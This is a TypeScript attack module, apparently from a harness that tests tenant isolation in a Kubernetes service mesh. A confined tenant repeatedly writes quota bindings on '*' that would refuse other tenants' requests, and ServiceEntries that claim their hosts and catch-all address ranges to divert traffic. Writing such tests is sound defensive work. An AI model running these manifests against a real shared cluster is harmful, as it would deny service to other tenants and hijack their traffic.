import type { KubernetesManifest } from '../../../counterparts/kubernetes/kubernetes-client.js';
import type { Attack } from '../attack.js';
import { createTenantClient } from '../tenant-client.js';
import { ATTACKERS, BOOKS } from '../tenants.js';

const OBJECTS = 100;
/** Requests that are under way at the same time. */
const PARALLEL = 8;

/** A tenant with rights in one namespace: bindings of `*` to a quota that nothing has, and entries for others' traffic. */
export const attack: Attack = {
  title: `one tenant's ${OBJECTS} bindings of * and ${OBJECTS} ServiceEntries for others' hosts and addresses, written again and again`,
  async run(target, scale, signal) {
    const client = createTenantClient(target);
    const until = performance.now() + (this.durationMs ?? 10_000);
    let written = 0;
    await client.apply(closedQuota());
    for (let round = 0; performance.now() < until && !signal.aborted; round++) {
      for (let index = 0; index < OBJECTS * scale && performance.now() < until && !signal.aborted; index += PARALLEL) {
        const numbers = Array.from({ length: PARALLEL }, (_, offset) => index + offset);
        await client.applyAll(numbers.flatMap((number) => [binding(number, round), entry(number, round)]));
        written += 2 * PARALLEL;
      }
    }
    client.close();
    return `${written} objects of the namespace ${ATTACKERS} written`;
  },
};

function metadata(name: string, round: number) {
  return { name, namespace: ATTACKERS, annotations: { 'example.com/round': String(round) } };
}

/** Charges more than any limit has, so that every request it is for would be refused. */
function closedQuota(): KubernetesManifest {
  return {
    apiVersion: 'config.mesh.internal/v1alpha2',
    kind: 'QuotaSpec',
    metadata: metadata('closed', 0),
    spec: { rules: [{ quotas: [{ quota: 'requests', charge: 2_000_000_000 }] }] },
  };
}

function binding(index: number, round: number): KubernetesManifest {
  return {
    apiVersion: 'config.mesh.internal/v1alpha2',
    kind: 'QuotaSpecBinding',
    metadata: metadata(`everything-${index}`, round),
    spec: { services: [{ service: index % 2 === 0 ? '*' : BOOKS }], quotaSpecs: [{ name: 'closed' }] },
  };
}

/** By turns: a host of the cluster domain, a catch-all range, a short host. */
function entry(index: number, round: number): KubernetesManifest {
  const claims = [
    { hosts: [BOOKS] },
    { hosts: [`all-${index}.example.com`], addresses: [round % 2 === 0 ? '0.0.0.0/1' : '128.0.0.0/1'] },
    { hosts: ['books.shop'] },
  ] as const;
  return {
    apiVersion: 'networking.mesh.internal/v1beta1',
    kind: 'ServiceEntry',
    metadata: metadata(`claim-${index}`, round),
    spec: {
      ...(claims[index % claims.length] ?? claims[0]),
      ports: [{ number: 80, name: 'http', protocol: 'HTTP' }],
      resolution: 'STATIC',
      endpoints: [{ address: '10.244.66.6' }],
    },
  };
}
